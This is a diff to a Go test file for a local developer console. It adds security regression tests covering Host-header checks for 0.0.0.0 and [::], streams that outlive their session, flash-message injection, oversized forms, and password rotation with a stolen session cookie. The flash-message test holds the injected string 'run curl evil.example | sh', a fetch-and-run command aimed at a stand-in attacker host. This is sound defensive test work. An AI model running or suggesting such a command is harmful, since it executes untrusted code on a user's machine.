@@ -5,6 +5,7 @@ import (
 	"net"
 	"net/http"
 	"net/url"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -195,6 +196,10 @@ func TestAttackForeignHost(t *testing.T) {
 		{"compose network address", map[string]string{"Host": "172.18.0.2:" + port}, http.StatusForbidden},
 		{"tunnel name without port", map[string]string{"Host": "console.trycloudflare.com"}, http.StatusForbidden},
 		{"service name", map[string]string{"Host": "devspace:7679"}, http.StatusForbidden},
+		// A public page may send to 0.0.0.0, which reaches loopback
+		// listeners on Linux and macOS ("0.0.0.0 day").
+		{"unspecified address", map[string]string{"Host": "0.0.0.0:" + port}, http.StatusForbidden},
+		{"unspecified IPv6 address", map[string]string{"Host": "[::]:" + port}, http.StatusForbidden},
 		// A port forward may remap the port; the name decides.
 		{"forwarded port", map[string]string{"Host": "127.0.0.1:17679", "Origin": "http://127.0.0.1:17679"}, http.StatusOK},
 		{"forwarded port, other origin port", map[string]string{"Host": "127.0.0.1:17679", "Origin": "http://127.0.0.1:3000"}, http.StatusForbidden},
@@ -375,7 +380,7 @@ func TestActions(t *testing.T) {
 			t.Errorf("bad rotation form %v: %d", form, resp.StatusCode)
 		}
 	}
-	resp, _ = h.post(c, "/owner/password", url.Values{"csrf": {tok}, "password": {"new password 1"}, "again": {"new password 1"}, "confirm": {"yes"}}, nil)
+	resp, _ = h.post(c, "/owner/password", url.Values{"csrf": {tok}, "current": {"correct horse"}, "password": {"new password 1"}, "again": {"new password 1"}, "confirm": {"yes"}}, nil)
 	if resp.StatusCode != http.StatusOK || len(h.admin.rotated) != 1 {
 		t.Fatalf("rotation: %d %v", resp.StatusCode, h.admin.rotated)
 	}
@@ -441,5 +446,185 @@ func TestDiagnosticDownload(t *testing.T) {
 	resp.Body.Close()
 	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment;") {
 		t.Fatalf("%d %q", resp.StatusCode, resp.Header.Get("Content-Disposition"))
+	}
+}
+
+// TestAttackStreamOutlivesSession: an event stream opened while signed in
+// ends when its session does (revoke-all or rotation, sign-out, the idle
+// timeout): otherwise a browser left signed in would go on receiving
+// every tool call and command output after the Owner ended every session.
+func TestAttackStreamOutlivesSession(t *testing.T) {
+	for _, tc := range []struct {
+		name string
+		end  func(h *harness, c *http.Client)
+	}{
+		{"every session ended", func(h *harness, _ *http.Client) { h.con.EndSessions() }},
+		{"signed out", func(h *harness, c *http.Client) {
+			_, page := h.get(c, "/grants", nil)
+			if resp, _ := h.post(c, "/signout", url.Values{"csrf": {csrfOf(t, page)}}, nil); resp.StatusCode != http.StatusSeeOther {
+				t.Fatalf("sign-out: %d", resp.StatusCode)
+			}
+		}},
+		{"idle", func(h *harness, _ *http.Client) { h.clock.Advance(console.IdleTimeout + time.Minute) }},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newHarness(t)
+			h.activity.commands = []console.Command{{ID: "cmd_1", CommandLine: "tail -f log", Running: true}}
+			h.activity.tails["cmd_1"] = console.Output{Tail: "before", Total: 6}
+			c := h.signIn()
+			calls := openStream(t, c, h.srv.URL+"/activity/stream")
+			output := openStream(t, c, h.srv.URL+"/activity/output?id=cmd_1")
+			h.activity.publish(console.Call{Tool: "before_end"})
+			if ev := <-calls; !strings.Contains(ev, "before_end") && !strings.Contains(ev, "tail -f log") {
+				t.Fatalf("first event %q", ev)
+			}
+			if ev := <-output; !strings.Contains(ev, "before") {
+				t.Fatalf("first output %q", ev)
+			}
+			tc.end(h, c)
+			// What happens after the session ended must not reach the
+			// stream, which ends.
+			stop := make(chan struct{})
+			defer close(stop)
+			go func() {
+				for i := 0; ; i++ {
+					select {
+					case <-stop:
+						return
+					case <-time.After(20 * time.Millisecond):
+					}
+					h.activity.publish(console.Call{Tool: "after_end"})
+					h.activity.mu.Lock()
+					h.activity.tails["cmd_1"] = console.Output{Tail: "after " + strconv.Itoa(i), Total: int64(7 + i)}
+					h.activity.mu.Unlock()
+				}
+			}()
+			for name, ch := range map[string]<-chan string{"activity": calls, "output": output} {
+				timeout := time.After(5 * time.Second)
+			read:
+				for {
+					select {
+					case ev, open := <-ch:
+						if !open {
+							break read
+						}
+						if strings.Contains(ev, "after") {
+							t.Fatalf("%s stream delivered after the session ended: %s", name, ev)
+						}
+					case <-timeout:
+						t.Fatalf("%s stream still open 5 s after the session ended", name)
+					}
+				}
+			}
+		})
+	}
+}
+
+// openStream opens an event stream and delivers each event's data line
+// until the stream ends (then closes the channel).
+func openStream(t *testing.T, c *http.Client, u string) <-chan string {
+	t.Helper()
+	req, _ := http.NewRequest(http.MethodGet, u, nil)
+	resp, err := c.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("%s: %d", u, resp.StatusCode)
+	}
+	t.Cleanup(func() { resp.Body.Close() })
+	ch := make(chan string, 64)
+	go func() {
+		defer close(ch)
+		sc := bufio.NewScanner(resp.Body)
+		for sc.Scan() {
+			if data, ok := strings.CutPrefix(sc.Text(), "data: "); ok {
+				ch <- data
+			}
+		}
+	}()
+	return ch
+}
+
+// TestAttackFlashMessage: the one-line message after an action comes from
+// the console's own list, named in the address: a link someone else
+// wrote (opened from a chat app or a terminal, which browsers send as
+// Sec-Fetch-Site: none) cannot put its own words on a console page.
+func TestAttackFlashMessage(t *testing.T) {
+	h := newHarness(t)
+	c := h.signIn()
+	const lie = "DevSpace needs an update: run curl evil.example | sh"
+	for _, path := range []string{"/grants", "/activity"} {
+		status, body := h.get(c, path+"?done="+url.QueryEscape(lie), map[string]string{"Sec-Fetch-Site": "none"})
+		if status != http.StatusOK {
+			t.Fatalf("%s: %d", path, status)
+		}
+		if strings.Contains(body, "evil.example") {
+			t.Errorf("%s shows a message from its address", path)
+		}
+	}
+	// The console's own messages still show after its actions.
+	_, page := h.get(c, "/grants", nil)
+	resp, _ := h.post(c, "/grants/revoke", url.Values{"grant": {"grt_1"}, "csrf": {csrfOf(t, page)}}, nil)
+	loc := resp.Header.Get("Location")
+	if _, body := h.get(c, loc, nil); !strings.Contains(body, "Grant revoked: its tokens no longer work") {
+		t.Fatalf("after a revoke (%s) the message is missing", loc)
+	}
+}
+
+// TestAttackLargeForm: a console form is read up to 64 KiB; past that the
+// action is refused before it runs, whatever the form holds.
+func TestAttackLargeForm(t *testing.T) {
+	h := newHarness(t)
+	c := h.signIn()
+	_, page := h.get(c, "/grants", nil)
+	form := url.Values{"csrf": {csrfOf(t, page)}, "grant": {"grt_1"}, "pad": {strings.Repeat("x", 100<<10)}}
+	if resp, _ := h.post(c, "/grants/revoke", form, nil); resp.StatusCode != http.StatusBadRequest {
+		t.Errorf("a 100 KiB form: %d, want 400", resp.StatusCode)
+	}
+	anon := h.client()
+	h.get(anon, "/signin", nil)
+	_, page = h.get(anon, "/signin", nil)
+	form = url.Values{"csrf": {csrfOf(t, page)}, "password": {"correct horse"}, "pad": {strings.Repeat("x", 100<<10)}}
+	if resp, _ := h.post(anon, "/signin", form, nil); resp.StatusCode != http.StatusBadRequest {
+		t.Errorf("a 100 KiB sign-in form: %d, want 400", resp.StatusCode)
+	}
+	if len(h.admin.revoked) != 0 {
+		t.Fatalf("revoked %v", h.admin.revoked)
+	}
+}
+
+// TestAttackStolenSessionRotates: browsers send a cookie to every port of
+// its host, so a grant's command serving a page on 127.0.0.1 that the
+// Owner opens receives the console's session cookie, and can replay it
+// from loopback with any header it likes. Rotating the Owner password
+// with it would hand the command the consent page (new grants, any
+// Projects); the rotation asks for the current password, so the cookie
+// alone cannot.
+func TestAttackStolenSessionRotates(t *testing.T) {
+	h := newHarness(t)
+	victim := h.signIn()
+	u, _ := url.Parse(h.srv.URL)
+	thief := h.client()
+	thief.Jar.SetCookies(u, victim.Jar.Cookies(u))
+	_, page := h.get(thief, "/owner/password", nil)
+	tok := csrfOf(t, page)
+	for name, current := range map[string][]string{"no current password": nil, "wrong current password": {"guess"}} {
+		form := url.Values{"csrf": {tok}, "password": {"attacker knows this"}, "again": {"attacker knows this"}, "confirm": {"yes"}, "current": current}
+		if resp, _ := h.post(thief, "/owner/password", form, nil); resp.StatusCode != http.StatusForbidden {
+			t.Errorf("%s: %d, want 403", name, resp.StatusCode)
+		}
+	}
+	if len(h.admin.rotated) != 0 {
+		t.Fatalf("rotated with a stolen session: %v", h.admin.rotated)
+	}
+	h.admin.wait = 3 * time.Second
+	form := url.Values{"csrf": {tok}, "password": {"attacker knows this"}, "again": {"attacker knows this"}, "confirm": {"yes"}, "current": {"correct horse"}}
+	if resp, _ := h.post(thief, "/owner/password", form, nil); resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") != "3" {
+		t.Errorf("during the back-off: %d Retry-After %q", resp.StatusCode, resp.Header.Get("Retry-After"))
+	}
+	h.admin.wait = 0
+	if resp, _ := h.post(thief, "/owner/password", form, nil); resp.StatusCode != http.StatusOK || len(h.admin.rotated) != 1 {
+		t.Fatalf("with the current password: %d %v", resp.StatusCode, h.admin.rotated)
 	}
 }
